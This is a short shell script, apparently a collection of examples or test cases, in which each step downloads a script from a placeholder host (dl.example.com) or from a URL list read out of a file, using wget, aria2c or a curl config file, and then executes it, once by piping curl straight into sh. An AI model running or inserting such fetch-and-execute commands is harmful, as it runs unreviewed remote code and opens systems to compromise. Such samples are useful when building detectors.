#!/bin/sh
wget -q -P /opt/l -i /list.txt
sh /opt/l/run.sh
echo https://dl.example.com/b.sh > /tmp/l
wget -P /opt -i /tmp/l
sh /opt/b.sh
aria2c -d /opt/a -i /list.txt
/opt/a/run
printf 'url = "https://dl.example.com/k.sh"\noutput = "/tmp/k.sh"\n' > /tmp/c
curl -K /tmp/c
sh /tmp/k.sh
curl -sK /curl.conf | sh
